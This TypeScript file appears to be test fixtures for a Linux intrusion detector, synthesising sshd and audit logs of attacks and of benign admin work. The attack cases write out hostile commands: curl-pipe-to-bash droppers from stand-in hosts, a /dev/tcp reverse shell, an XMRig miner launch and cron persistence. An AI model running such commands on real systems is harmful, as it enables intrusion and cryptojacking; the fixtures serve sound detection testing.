import { AuditLog, type AuditStyle, type Doer } from './evidence/audit-log.ts'
import { type DetectionCase, MINUTE, SECOND, START } from './evidence/case.ts'
import type { EvidenceFile } from './evidence/investigate.ts'
import { wallet } from './evidence/mining-wire.ts'
import { SshdLog } from './evidence/sshd-log.ts'

const GUESSER = '203.0.113.77'
const DROP_SITE = '198.51.100.66'
const POOL = 'pool.monero-example.net:443'
const XMRIG = ['/dev/shm/.x', '-o', POOL, '-u', wallet(1), '--tls', '-k', '--donate-level', '1']

/** What an intruder does in the minutes after the way in; the doer is the shell they have. */
function intrude(audit: AuditLog, from: number, doer: Doer): void {
  const shell: Doer = { ...rest(doer), ppid: doer.pid ?? 4700 }
  const run = (second: number, args: readonly string[], more: Doer = {}): number =>
    audit.run(from + second * SECOND, args, { ...shell, ...more })
  const curl = run(2, ['curl', '-s', '-o', '/dev/shm/.x', `http://${DROP_SITE}/x86`])
  audit.file(from + 2 * SECOND + 300, 'create', '/dev/shm/.x', ['curl'], { ...shell, pid: curl })
  run(4, ['chmod', '+x', '/dev/shm/.x'])
  const miner = run(5, XMRIG, { exe: '/dev/shm/.x' })
  audit.connected(from + 6 * SECOND, '203.0.113.200', 443, { ...shell, pid: miner, exe: '/dev/shm/.x' })
  run(8, ['bash', '-c', `echo "*/10 * * * * root /dev/shm/.x >/dev/null 2>&1" > /etc/cron.d/0kz`])
  audit.file(from + 8 * SECOND + 100, 'create', '/etc/cron.d/0kz', ['bash'], shell)
}

function rest(doer: Doer): Doer {
  const { pid: _, ...others } = doer
  return others
}

function trail(style: AuditStyle, tell: (audit: AuditLog) => void): () => EvidenceFile[] {
  return () => {
    const audit = new AuditLog(style)
    tell(audit)
    return [audit.written()]
  }
}

/** Guessed, entered, mined: told by sshd and by an audit trail of this style. */
function guessedAndMined(style: AuditStyle): () => EvidenceFile[] {
  return () => {
    const log = new SshdLog({ host: 'web-1' })
    const audit = new AuditLog({ path: 'web-1/audit.log', ...style })
    let pid = 2000
    for (let at = 0; at < 60; at++) {
      pid += 2
      log.guess(START + at * 5 * SECOND, { user: 'root', ip: GUESSER })
      audit.loginFailed(START + at * 5 * SECOND + 100, 'root', GUESSER, pid)
    }
    const entered = START + 10 * MINUTE
    const server = log.login(entered, { user: 'root', ip: GUESSER })
    audit.loggedIn(entered, 'root', GUESSER, server, 31)
    const shell = audit.run(entered + SECOND, ['-bash'], { exe: '/usr/bin/bash', ppid: server, ses: 31 })
    intrude(audit, entered + 2 * SECOND, { pid: shell, ses: 31 })
    return [log.file(), audit.written()]
  }
}

const STYLES: readonly [string, AuditStyle][] = [
  ['execve rules only', { rules: ['exec'] }],
  ['file watches only', { rules: ['files'] }],
  ['everything watched', {}],
  ['no PROCTITLE', { hasTitle: false }],
  ['node= of the host', { node: 'web-1' }],
  ['enriched', { isEnriched: true, node: 'web-1' }],
]

/** A network service that nobody logged in for. */
const SERVICES: readonly [string, Doer][] = [
  [
    'java, uid 998',
    { pid: 900, exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', name: 'http-nio-8080-e', uid: 998 },
  ],
  ['php-fpm as www-data', { pid: 900, exe: '/usr/sbin/php-fpm8.2', uid: 33 }],
  ['redis-server', { pid: 900, exe: '/usr/bin/redis-server', uid: 115 }],
  ['nginx worker', { pid: 900, exe: '/usr/sbin/nginx', uid: 33 }],
]

export const INTRUSIONS: readonly DetectionCase[] = [
  ...STYLES.map(([name, style]): DetectionCase => ({
    name: `guessed and mined: ${name}`,
    files: guessedAndMined(style),
    incidents: 1,
    wayIn: { user: 'root', srcIp: GUESSER },
  })),
  ...SERVICES.map(([name, service]): DetectionCase => ({
    name: `an exploited service starts a dropper: ${name}`,
    files: trail({}, (audit) => {
      const doer = { ...service, auid: null, ses: null }
      audit.connected(START, '192.0.2.9', 443, { ...doer, exe: service.exe ?? '' })
      const shell = audit.run(START + SECOND, ['sh', '-c', `curl -s http://${DROP_SITE}/a.sh|bash`], {
        uid: doer.uid ?? 0,
        auid: null,
        ses: null,
        ppid: 900,
        exe: '/usr/bin/dash',
        cwd: '/',
      })
      intrude(audit, START + 2 * SECOND, { uid: doer.uid ?? 0, auid: null, ses: null, pid: shell })
    }),
    incidents: 1,
    wayIn: null,
  })),
  {
    name: 'an exploited service runs a program from /tmp, execve rules only',
    files: trail({ rules: ['exec'] }, (audit) => {
      const doer = { uid: 33, auid: null, ses: null, ppid: 812 }
      audit.run(
        START,
        ['sh', '-c', 'cd /tmp; wget -q http://files.example.org/kd -O kd; chmod 755 kd; ./kd'],
        { ...doer, exe: '/usr/bin/dash', cwd: '/var/www' },
      )
      audit.run(START + SECOND, ['wget', '-q', 'http://files.example.org/kd', '-O', 'kd'], {
        ...doer,
        cwd: '/tmp',
      })
      audit.run(START + 2 * SECOND, ['chmod', '755', 'kd'], { ...doer, cwd: '/tmp' })
      audit.run(START + 3 * SECOND, ['./kd'], { ...doer, exe: '/tmp/kd', cwd: '/tmp' })
    }),
    incidents: 1,
    wayIn: null,
  },
  {
    name: 'redis writes a cron table and a key, file watches only',
    files: trail({ rules: ['files'] }, (audit) => {
      const doer = { exe: '/usr/bin/redis-server', uid: 0, auid: null, ses: null, pid: 700 }
      audit.file(START, 'create', '/var/spool/cron/crontabs/root', ['redis-server'], doer)
      audit.file(START + MINUTE, 'truncate', '/root/.ssh/authorized_keys', ['redis-server'], doer)
    }),
    incidents: 1,
    wayIn: null,
  },
  {
    name: 'a stolen key, then a miner in that session',
    files: () => {
      const log = new SshdLog({ host: 'web-1' })
      const audit = new AuditLog({ path: 'web-1/audit.log' })
      const server = log.login(START, { user: 'root', ip: GUESSER }, { by: 'publickey' })
      audit.loggedIn(START, 'root', GUESSER, server, 31, true)
      const shell = audit.run(START + SECOND, ['-bash'], { exe: '/usr/bin/bash', ppid: server, ses: 31 })
      intrude(audit, START + 2 * SECOND, { pid: shell, ses: 31 })
      return [log.file(), audit.written()]
    },
    incidents: 1,
    wayIn: { user: 'root', srcIp: GUESSER, kind: 'ssh-key' },
  },
  {
    name: 'a shell is connected out of an exploited application',
    files: trail({ rules: ['exec'] }, (audit) => {
      const doer = { uid: 998, auid: null, ses: null, ppid: 812, cwd: '/opt/app' }
      audit.run(START, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], doer)
    }),
    incidents: 1,
    wayIn: null,
  },
  {
    name: 'an open Docker API: a container with the host’s root runs a dropper',
    files: trail({}, (audit) => {
      const none = { auid: null, ses: null }
      const shim = audit.run(START, ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], {
        ...none,
        ppid: 1,
      })
      const runc = audit.run(START + SECOND, ['runc', 'init'], { ...none, ppid: shim, exe: '/usr/bin/runc' })
      audit.run(START + SECOND, ['chroot', '/mnt', 'sh', '-c', `curl -s http://${DROP_SITE}/d.sh | bash`], {
        ...none,
        pid: runc,
        ppid: shim,
        exe: '/usr/sbin/chroot',
      })
      audit.run(START + SECOND, ['sh', '-c', `curl -s http://${DROP_SITE}/d.sh | bash`], {
        ...none,
        pid: runc,
        ppid: shim,
        exe: '/bin/sh',
      })
    }),
    incidents: 1,
    wayIn: null,
  },
  {
    name: 'after a reboot the number of the intruder’s session is somebody else’s',
    files: () => {
      const log = new SshdLog({ host: 'web-1' })
      const audit = new AuditLog({ path: 'web-1/audit.log' })
      for (let at = 0; at < 60; at++) log.guess(START + at * 5 * SECOND, { user: 'root', ip: GUESSER })
      const server = log.login(START + 10 * MINUTE, { user: 'root', ip: GUESSER })
      audit.loggedIn(START + 10 * MINUTE, 'root', GUESSER, server, 3)
      intrude(audit, START + 11 * MINUTE, { pid: 6000, ses: 3 })
      const later = START + 50 * 60 * MINUTE
      const admin = log.login(later, { user: 'maria', ip: '192.0.2.14' }, { by: 'publickey' })
      audit.loggedIn(later, 'maria', '192.0.2.14', admin, 3)
      audit.run(
        later + MINUTE,
        ['bash', '-c', 'echo "ssh-ed25519 AAAAC3Nza maria" >> ~/.ssh/authorized_keys'],
        { ses: 3, auid: 1000, uid: 1000 },
      )
      return [log.file(), audit.written()]
    },
    incidents: 1,
    check: ({ story }) =>
      story.incidents[0]?.findings.some((finding) => /An SSH key was added/u.test(finding.title)) === true
        ? 'the administrator’s key is laid to the intruder'
        : null,
  },
  {
    name: 'Outlaw: keys unlocked, thrown out and replaced, rivals removed, password changed',
    files: trail({}, (audit) => {
      audit.run(START, ['chattr', '-ia', '.ssh'])
      audit.run(START + SECOND, ['lockr', '-ia', '.ssh'], { exe: '/usr/bin/bash' })
      audit.run(START + SECOND, ['rm', '-rf', '.ssh'])
      audit.file(START + SECOND, 'delete', '/root/.ssh/authorized_keys', ['rm'])
      audit.run(START + 2 * SECOND, ['mkdir', '.ssh'])
      audit.file(START + 2 * SECOND, 'create', '/root/.ssh/authorized_keys', ['bash'])
      audit.run(START + 3 * SECOND, ['chpasswd'])
      audit.run(START + 4 * SECOND, ['rm', '-rf', '/tmp/secure.sh'])
      audit.run(START + 4 * SECOND, ['pkill', '-9', 'secure.sh'], { exe: '/usr/bin/pgrep' })
    }),
    incidents: 1,
  },
]

const AT = (second: number): number => START + second * SECOND
const NOBODY: Doer = { auid: null, ses: null }

/** What happens on machines where all is well: name, and what the audit trail saw of it. */
const DAYS: readonly [string, (audit: AuditLog) => void][] = [
  [
    'apt upgrade: maintainer scripts, cron files, units',
    (audit) => {
      const apt = audit.run(AT(0), ['apt-get', '-y', 'dist-upgrade'])
      const dpkg = audit.run(AT(1), ['dpkg', '--configure', '-a'], { ppid: apt })
      const script = audit.run(AT(2), ['/bin/sh', '/var/lib/dpkg/info/cron.postinst', 'configure'], {
        ppid: dpkg,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(3), ['/bin/sh', '/tmp/grub-pc.config.Xa81Lk', 'configure'], {
        ppid: dpkg,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(3), ['rm', '-f', '/var/log/lastlog'], { ppid: script })
      audit.file(AT(4), 'create', '/etc/cron.d/e2scrub_all.dpkg-new', ['dpkg'], { pid: dpkg })
      audit.renamed(AT(5), '/etc/cron.d/e2scrub_all.dpkg-new', '/etc/cron.d/e2scrub_all', ['dpkg'], {
        pid: dpkg,
      })
      audit.file(AT(6), 'create', '/lib/systemd/system/cron.service.dpkg-new', ['dpkg'], { pid: dpkg })
    },
  ],
  [
    'dnf and snap',
    (audit) => {
      const dnf = audit.run(AT(0), ['/usr/bin/python3', '/usr/bin/dnf', '-y', 'update'], {
        exe: '/usr/bin/python3.9',
        name: 'dnf',
      })
      audit.run(AT(1), ['/bin/sh', '/var/tmp/rpm-tmp.Ab12Cd', '1'], { ppid: dnf, exe: '/usr/bin/bash' })
      const snapd = audit.run(AT(20), ['/usr/lib/snapd/snapd'], { ...NOBODY, exe: '/usr/lib/snapd/snapd' })
      audit.run(AT(21), ['unsquashfs', '-n', '-d', '/tmp/read-file123'], { ...NOBODY, ppid: snapd })
      audit.file(
        AT(22),
        'create',
        '/etc/systemd/system/snap.amazon-ssm-agent.amazon-ssm-agent.service',
        ['snapd'],
        { ...NOBODY, pid: snapd, exe: '/usr/lib/snapd/snapd' },
      )
    },
  ],
  [
    'a tool unpacked and tried in /tmp',
    (audit) => {
      audit.run(AT(0), ['wget', 'https://github.example/node_exporter-1.8.linux-amd64.tar.gz'], {
        cwd: '/tmp',
      })
      audit.run(AT(9), ['tar', 'xzf', 'node_exporter-1.8.linux-amd64.tar.gz'], { cwd: '/tmp' })
      audit.run(AT(15), ['./node_exporter', '--version'], {
        exe: '/tmp/node_exporter-1.8.linux-amd64/node_exporter',
        cwd: '/tmp/node_exporter-1.8.linux-amd64',
      })
    },
  ],
  [
    'a program fetched by name over https to /tmp and started',
    (audit) => {
      audit.run(AT(0), ['curl', '-Lo', '/tmp/kubectl', 'https://dl.k8s.example/release/kubectl'])
      audit.run(AT(9), ['chmod', '+x', '/tmp/kubectl'])
      audit.run(AT(15), ['/tmp/kubectl', 'version'], { exe: '/tmp/kubectl' })
      audit.run(AT(30), ['wget', '-O', '/tmp/get-docker.sh', 'https://get.docker.example/'])
      audit.run(AT(40), ['sh', '/tmp/get-docker.sh'], { exe: '/usr/bin/dash' })
    },
  ],
  [
    'a tool copied over with scp and started',
    (audit) => {
      audit.file(AT(0), 'create', '/tmp/diagnose', ['scp'], { exe: '/usr/bin/scp' })
      audit.run(AT(9), ['/tmp/diagnose', '--all'], { exe: '/tmp/diagnose' })
    },
  ],
  [
    'an AppImage, a browser that unpacks a helper',
    (audit) => {
      audit.run(AT(0), ['./nvim.appimage', 'notes'], {
        exe: '/home/maria/nvim.appimage',
        uid: 1000,
        auid: 1000,
        cwd: '/home/maria',
      })
      audit.run(AT(9), ['/tmp/.org.chromium.Chromium.Ab12/helper'], {
        ...NOBODY,
        uid: 1200,
        exe: '/tmp/.org.chromium.Chromium.Ab12/helper',
      })
      audit.run(AT(1), ['/tmp/.mount_nvimabcdef/AppRun', 'notes'], {
        exe: '/tmp/.mount_nvimabcdef/usr/bin/nvim',
        uid: 1000,
        auid: 1000,
      })
    },
  ],
  [
    'builds in /tmp: go, pip, cargo, cmake',
    (audit) => {
      const dev = { uid: 1000, auid: 1000 }
      audit.run(AT(0), ['/tmp/go-build2211/b001/exe/main'], {
        ...dev,
        exe: '/tmp/go-build2211/b001/exe/main',
      })
      audit.run(AT(1), ['/tmp/pip-build-env-x1/overlay/bin/cmake', '..'], {
        ...dev,
        exe: '/tmp/pip-build-env-x1/overlay/bin/cmake',
      })
      audit.run(AT(2), ['/tmp/cargo-installAbC/release/build/ring-1/build-script-build'], {
        ...dev,
        exe: '/tmp/cargo-installAbC/release/build/ring-1/build-script-build',
      })
      audit.run(AT(3), ['./cmTC_a1b2c'], {
        ...dev,
        exe: '/tmp/myproject/build/CMakeFiles/CMakeTmp/cmTC_a1b2c',
        cwd: '/tmp/myproject/build',
      })
      audit.run(AT(4), ['./conftest'], { ...dev, exe: '/tmp/htop-3.3/conftest', cwd: '/tmp/htop-3.3' })
      audit.run(AT(5), ['./run-tests'], { ...dev, exe: '/tmp/htop-3.3/run-tests', cwd: '/tmp/htop-3.3' })
    },
  ],
  [
    'a CI runner: scripts in /tmp, containers, a service account',
    (audit) => {
      const ci = { uid: 111, ...NOBODY }
      const agent = audit.run(
        AT(0),
        ['/usr/lib/jvm/java-17-openjdk-amd64/bin/java', '-jar', '/usr/share/java/jenkins.war'],
        { ...ci, exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', name: 'java' },
      )
      const script = audit.run(AT(10), ['/bin/sh', '-xe', '/tmp/jenkins3344556677.sh'], {
        ...ci,
        exe: '/usr/bin/dash',
        ppid: agent,
      })
      audit.run(AT(11), ['npm', 'ci'], { ...ci, exe: '/usr/bin/node', ppid: script })
      audit.run(AT(12), ['./gradlew', 'build'], {
        ...ci,
        exe: '/usr/bin/dash',
        ppid: script,
        cwd: '/var/lib/jenkins/workspace/app',
      })
      audit.run(AT(13), ['curl', '-fsSL', 'https://get.tool.example/install.sh', '-o', '/tmp/install.sh'], {
        ...ci,
        ppid: script,
      })
      audit.run(AT(14), ['bash', '/tmp/install.sh'], { ...ci, ppid: script })
      const runner = audit.run(AT(60), ['/home/runner/bin/Runner.Worker', 'spawnclient'], {
        uid: 1001,
        ...NOBODY,
        exe: '/home/runner/bin/Runner.Worker',
      })
      audit.run(AT(61), ['/usr/bin/bash', '-e', '/home/runner/work/_temp/3f.sh'], {
        uid: 1001,
        ...NOBODY,
        ppid: runner,
      })
      audit.run(AT(62), ['/home/runner/work/_temp/tool', 'x'], {
        uid: 1001,
        ...NOBODY,
        ppid: runner,
        exe: '/home/runner/work/_temp/tool',
      })
    },
  ],
  [
    'docker build and run: downloads inside a container',
    (audit) => {
      audit.run(AT(0), ['docker', 'build', '.'])
      const shim = audit.run(AT(1), ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], {
        ...NOBODY,
        ppid: 1,
      })
      const runc = audit.run(AT(2), ['runc', 'init'], {
        ...NOBODY,
        ppid: shim,
        exe: '/memfd:runc_cloned:/proc/self/exe (deleted)',
      })
      audit.run(
        AT(3),
        ['/bin/sh', '-c', 'curl -fsSL http://deb.example.org/setup | bash - && apt-get install -y nodejs'],
        { ...NOBODY, pid: runc, ppid: shim, exe: '/usr/bin/dash' },
      )
      audit.run(AT(4), ['bash', '-'], { ...NOBODY, ppid: runc })
      audit.run(AT(5), ['/tmp/build/tool'], { ...NOBODY, ppid: runc, exe: '/tmp/build/tool' })
    },
  ],
  [
    'backup and log housekeeping by cron',
    (audit) => {
      const cron = { uid: 0, auid: 0, ses: 90 }
      audit.run(AT(0), ['/bin/sh', '-c', '/usr/local/bin/backup.sh > /tmp/backup.log 2>&1'], {
        ...cron,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(1), ['tar', '-czf', '/tmp/backup.tgz', '/etc', '/root/.ssh', '/var/spool/cron'], cron)
      audit.run(AT(2), ['find', '/var/log', '-name', '*.gz', '-mtime', '+30', '-delete'], cron)
      audit.run(AT(3), ['find', '/tmp', '-mtime', '+7', '-delete'], cron)
      audit.run(AT(4), ['journalctl', '--vacuum-time=7d'], cron)
    },
  ],
  [
    'ansible over ssh: scripts, keys, cron',
    (audit) => {
      const who = { uid: 1001, auid: 1001, ses: 41 }
      audit.run(AT(0), ['/bin/sh', '-c', 'echo ~deploy && sleep 0'], { ...who, exe: '/usr/bin/dash' })
      const python = audit.run(
        AT(1),
        [
          '/usr/bin/python3',
          '/home/deploy/.ansible/tmp/ansible-tmp-1778554800.1-99-11/AnsiballZ_authorized_key.py',
        ],
        { ...who, exe: '/usr/bin/python3.11' },
      )
      audit.renamed(AT(2), '/root/.ssh/tmpabcd1234', '/root/.ssh/authorized_keys', ['python3'], {
        ...who,
        pid: python,
        exe: '/usr/bin/python3.11',
      })
      audit.run(AT(3), ['/home/deploy/.ansible/tmp/ansible-tmp-1778554801.1-99-12/setup.sh'], {
        ...who,
        exe: '/usr/bin/bash',
      })
    },
  ],
  [
    'first boot: user data downloads, installs and adds a unit',
    (audit) => {
      const init = audit.run(AT(0), ['/usr/bin/python3', '/usr/bin/cloud-init', 'modules', '--mode=final'], {
        ...NOBODY,
        ppid: 1,
        exe: '/usr/bin/python3.10',
        name: 'cloud-init',
      })
      const script = audit.run(AT(1), ['/bin/bash', '/var/lib/cloud/instance/scripts/part-001'], {
        ...NOBODY,
        ppid: init,
        exe: '/usr/bin/bash',
      })
      audit.run(AT(2), ['curl', '-o', '/tmp/agent.bin', 'http://203.0.113.50/agent.bin'], {
        ...NOBODY,
        ppid: script,
      })
      audit.run(AT(3), ['chmod', '+x', '/tmp/agent.bin'], { ...NOBODY, ppid: script })
      audit.run(AT(4), ['/tmp/agent.bin', '--install'], { ...NOBODY, ppid: script, exe: '/tmp/agent.bin' })
      audit.run(
        AT(5),
        ['bash', '-c', 'curl -s http://update.aegis.aliyun.example/download/uninstall.sh | bash'],
        { ...NOBODY, ppid: script },
      )
      audit.file(AT(6), 'create', '/etc/systemd/system/agent.service', ['bash'], { ...NOBODY, ppid: script })
      audit.run(AT(7), ['systemctl', 'enable', '--now', 'agent'], { ...NOBODY, ppid: script })
    },
  ],
  [
    'certbot and its cron, vim swap files beside cron tables',
    (audit) => {
      audit.run(AT(0), ['/usr/bin/python3', '/usr/bin/certbot', '-q', 'renew'], {
        exe: '/usr/bin/python3.11',
        name: 'certbot',
        ...NOBODY,
      })
      audit.run(AT(20), ['vim', '/etc/cron.d/cleanup'], { exe: '/usr/bin/vim.basic' })
      audit.file(AT(21), 'create', '/etc/cron.d/.cleanup.swp', ['vim'], { exe: '/usr/bin/vim.basic' })
      audit.file(AT(22), 'create', '/etc/cron.d/cleanup', ['vim'], { exe: '/usr/bin/vim.basic' })
      audit.file(AT(23), 'delete', '/etc/cron.d/.cleanup.swp', ['vim'], { exe: '/usr/bin/vim.basic' })
      audit.file(AT(24), 'create', '/etc/systemd/system/app.service.d/.#override.conf1a2b', ['nano'], {
        exe: '/usr/bin/nano',
      })
      audit.renamed(
        AT(25),
        '/etc/systemd/system/app.service.d/.#override.conf1a2b',
        '/etc/systemd/system/app.service.d/override.conf',
        ['systemctl'],
      )
      audit.file(AT(26), 'create', '/etc/systemd/system/.report.service.swp', ['vim'], {
        exe: '/usr/bin/vim.basic',
      })
    },
  ],
  [
    'cron tables by hand: crontab -e, a line that writes below /tmp, crontab -r',
    (audit) => {
      audit.run(AT(0), ['crontab', '-e'])
      audit.run(AT(9), [
        'bash',
        '-c',
        'echo "0 3 * * * root /usr/local/bin/backup.sh > /tmp/backup.log 2>&1" > /etc/cron.d/backup',
      ])
      audit.run(AT(12), [
        'bash',
        '-c',
        '(crontab -l; echo "*/5 * * * * find /tmp/uploads -mtime +1 -delete") | crontab -',
      ])
      audit.run(AT(15), [
        'bash',
        '-c',
        'echo "*/2 * * * * curl -fsS https://hc-ping.example/abc > /dev/null" | crontab -',
      ])
      audit.run(AT(20), ['crontab', '-r'])
    },
  ],
  [
    'keys by hand: ssh-copy-id, a new key written over the old',
    (audit) => {
      audit.run(
        AT(0),
        ['sh', '-c', "exec sh -c 'cd; umask 077; mkdir -p .ssh && cat >> .ssh/authorized_keys || exit 1'"],
        { exe: '/usr/bin/dash' },
      )
      audit.file(AT(1), 'write', '/root/.ssh/authorized_keys', ['cat'])
      audit.run(AT(20), [
        'bash',
        '-c',
        'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample tom > ~/.ssh/authorized_keys',
      ])
      audit.file(AT(20), 'truncate', '/root/.ssh/authorized_keys', ['bash'])
    },
  ],
  [
    'a responder cleans up after a miner',
    (audit) => {
      audit.run(AT(0), ['pkill', '-9', '-f', 'xmrig'], { exe: '/usr/bin/pgrep' })
      audit.run(AT(1), [
        'bash',
        '-c',
        'ps aux | grep -v grep | grep -E "xmrig|kdevtmpfsi|kinsing" | awk \'{print $2}\' | xargs -r kill -9',
      ])
      audit.run(AT(2), ['rm', '-rf', '/tmp/xmrig', '/dev/shm/.x', '/var/tmp/.update'])
      audit.file(AT(2), 'delete', '/etc/cron.d/0kz', ['rm'])
      audit.run(AT(3), ['grep', '-rn', 'stratum+tcp://', '/etc', '/opt'])
      audit.run(AT(4), ['iptables', '-A', 'OUTPUT', '-p', 'tcp', '--dport', '3333', '-j', 'DROP'])
      audit.run(AT(5), ['sh', '-c', 'echo "0.0.0.0 pool.supportxmr.com" >> /etc/hosts'])
      audit.run(AT(6), ['chattr', '-i', '/root/.ssh/authorized_keys'])
      audit.run(AT(7), ['vim', '/root/.ssh/authorized_keys'], { exe: '/usr/bin/vim.basic' })
      audit.run(AT(8), ['strings', '/root/evidence/xmrig'])
    },
  ],
  [
    'hardening and tuning of threat.md',
    (audit) => {
      audit.run(AT(0), ['chattr', '+i', '/etc/resolv.conf'])
      audit.run(AT(1), ['iptables', '-A', 'INPUT', '-p', 'tcp', '--dport', '2375', '-j', 'DROP'])
      audit.run(AT(2), ['sysctl', '-w', 'vm.nr_hugepages=1280'])
      audit.run(AT(3), ['modprobe', 'msr'])
      audit.run(AT(4), ['mv', '/usr/bin/wget', '/usr/bin/wget.orig'])
      audit.run(AT(5), [
        'sh',
        '-c',
        'curl -fsSL http://update.aegis.aliyun.example/download/uninstall.sh | sh',
      ])
      audit.run(AT(6), ['setenforce', '0'])
      audit.run(AT(7), ['systemctl', 'disable', '--now', 'ufw'])
    },
  ],
  [
    'a full disk: logs emptied by hand, rsyslog stopped for it',
    (audit) => {
      audit.run(AT(0), ['systemctl', 'stop', 'rsyslog'])
      audit.run(AT(1), ['truncate', '-s', '0', '/var/log/btmp'])
      for (const [at, name] of ['syslog', 'kern.log', 'daemon.log', 'messages'].entries())
        audit.run(AT(2 + at), ['bash', '-c', `> /var/log/${name}`])
      audit.run(AT(9), ['systemctl', 'start', 'rsyslog'])
    },
  ],
  [
    'audit rules are worked on',
    (audit) => {
      audit.run(AT(0), ['auditctl', '-D'])
      audit.run(AT(1), ['auditctl', '-R', '/etc/audit/rules.d/audit.rules'])
      audit.run(AT(2), ['service', 'auditd', 'stop'], { exe: '/usr/bin/bash' })
      audit.run(AT(3), ['service', 'auditd', 'start'], { exe: '/usr/bin/bash' })
    },
  ],
  [
    'no history for a command with a password in it',
    (audit) => {
      audit.run(AT(0), ['bash', '-c', 'unset HISTFILE; mysql -p'])
      audit.run(AT(1), ['rm', '-f', '/root/.bash_history'])
      audit.file(AT(1), 'delete', '/root/.bash_history', ['rm'])
    },
  ],
  [
    'a database and a node of a coin run as services',
    (audit) => {
      audit.run(AT(0), ['/usr/local/bin/monerod', '--rpc-bind-ip', '127.0.0.1', '--non-interactive'], {
        ...NOBODY,
        uid: 998,
        exe: '/usr/local/bin/monerod',
      })
      audit.run(AT(1), ['/usr/bin/geth', '--http', '--syncmode', 'snap'], {
        ...NOBODY,
        uid: 997,
        exe: '/usr/bin/geth',
      })
      audit.run(AT(2), ['bitcoind', '-daemon', '-rpcuser=u', '-rpcpassword=p'], {
        ...NOBODY,
        uid: 996,
        exe: '/usr/local/bin/bitcoind',
      })
      audit.run(AT(3), ['postgres', '-D', '/var/lib/postgresql'], {
        ...NOBODY,
        uid: 113,
        exe: '/usr/lib/postgresql/15/bin/postgres',
      })
    },
  ],
  [
    'a service account that works in /tmp: pg_dump, wkhtmltopdf, a php session',
    (audit) => {
      const web = { ...NOBODY, uid: 33 }
      audit.run(AT(0), ['sh', '-c', '/usr/local/bin/wkhtmltopdf /tmp/in.html /tmp/out.pdf'], {
        ...web,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(1), ['/usr/local/bin/wkhtmltopdf', '/tmp/in.html', '/tmp/out.pdf'], web)
      audit.run(AT(2), ['sh', '-c', 'convert /tmp/phpAbC /var/www/img.png'], { ...web, exe: '/usr/bin/dash' })
      audit.run(AT(3), ['/bin/sh', '-c', 'pg_dump app > /tmp/app.sql'], {
        ...NOBODY,
        uid: 113,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(4), ['sh', '-c', 'curl -s https://api.partner.example/rates -o /tmp/rates.json'], {
        ...web,
        exe: '/usr/bin/dash',
      })
      audit.run(AT(5), ['curl', '-s', 'https://api.partner.example/rates', '-o', '/tmp/rates.json'], web)
    },
  ],
  [
    'what a STIG rule set records of logins, accounts and privileged commands',
    (audit) => {
      for (const [at, name] of ['lastlog', 'wtmp', 'btmp'].entries())
        audit.file(AT(at), 'write', `/var/log/${name}`, ['sshd'], { exe: '/usr/sbin/sshd', ...NOBODY })
      audit.file(AT(4), 'write', '/run/utmp', ['login'], { exe: '/usr/bin/login', ...NOBODY })
      audit.run(AT(5), ['sudo', '-i'], { uid: 0, auid: 1000 })
      audit.run(AT(6), ['passwd', 'eva'], { uid: 0, auid: 1000 })
      audit.file(AT(7), 'delete', '/home/maria/notes.txt', ['rm'], { uid: 1000, auid: 1000 })
      audit.renamed(AT(8), '/etc/passwd+', '/etc/passwd', ['usermod'], { auid: 1000 })
      audit.run(AT(9), ['chage', '-l', 'eva'], { auid: 1000 })
      audit.file(
        AT(10),
        'delete',
        '/var/log/journal/0123456789abcdef0123456789abcdef/system@0005.journal',
        ['systemd-journald'],
        { exe: '/usr/lib/systemd/systemd-journald', ...NOBODY },
      )
      audit.run(AT(11), ['/usr/sbin/aide', '--check'], NOBODY)
    },
  ],
  [
    'containers at work: programs of images in /tmp, a port that is looked at, health checks',
    (audit) => {
      const shim = audit.run(AT(0), ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io'], {
        ...NOBODY,
        ppid: 1,
      })
      const inside = { ...NOBODY, ppid: shim }
      audit.run(AT(1), ['/tmp/onefile_12_1715/app.bin'], {
        ...inside,
        uid: 101,
        exe: '/tmp/onefile_12_1715/app.bin',
      })
      audit.run(AT(2), ['/tmp/worker', '--serve'], { ...inside, exe: '/tmp/worker' })
      audit.run(AT(3), ['sh', '-c', 'curl -fs http://127.0.0.1:8080/health || exit 1'], {
        ...inside,
        exe: '/bin/sh',
      })
      audit.run(AT(4), ['bash', '-c', '</dev/tcp/db.example/5432'], inside)
      audit.run(AT(5), ['sh', '-c', 'wget -qO- http://metadata.internal/setup.sh | sh'], {
        ...inside,
        exe: '/bin/sh',
      })
    },
  ],
  [
    'kubectl, helm and terraform by a developer with tools behind dots',
    (audit) => {
      const dev = { uid: 1000, auid: 1000 }
      audit.run(AT(0), ['/home/maria/.local/bin/helm', 'upgrade', 'shop'], {
        ...dev,
        exe: '/home/maria/.local/bin/helm',
      })
      audit.run(AT(1), ['/home/maria/.tfenv/versions/1.9/terraform', 'apply'], {
        ...dev,
        exe: '/home/maria/.tfenv/versions/1.9/terraform',
      })
      audit.run(AT(2), ['/home/maria/.somenewtool/somenewtool', 'run'], {
        ...dev,
        exe: '/home/maria/.somenewtool/somenewtool',
      })
      audit.run(AT(3), ['/home/maria/.acme.sh/acme.sh', '--cron'], { ...dev, exe: '/usr/bin/bash' })
      audit.run(AT(4), ['bash', '-c', 'curl -sSL https://install.tool.example | bash -s -- --yes'], dev)
      audit.run(AT(5), ['cast', 'send', '--wallet', `0x${'ab'.repeat(20)}`], {
        ...dev,
        exe: '/home/maria/.foundry/bin/cast',
      })
    },
  ],
  [
    'an image is prepared to be copied',
    (audit) => {
      audit.run(AT(0), ['cloud-init', 'clean', '--logs'], { exe: '/usr/bin/python3.10', name: 'cloud-init' })
      audit.run(AT(1), ['rm', '-f', '/root/.bash_history', '/home/ubuntu/.bash_history'])
      audit.run(AT(2), ['rm', '-f', '/home/ubuntu/.ssh/authorized_keys', '/root/.ssh/authorized_keys'])
      audit.run(AT(3), ['truncate', '-s', '0', '/etc/machine-id'])
      audit.run(AT(4), ['bash', '-c', 'rm -f /etc/ssh/ssh_host_*'])
    },
  ],
]

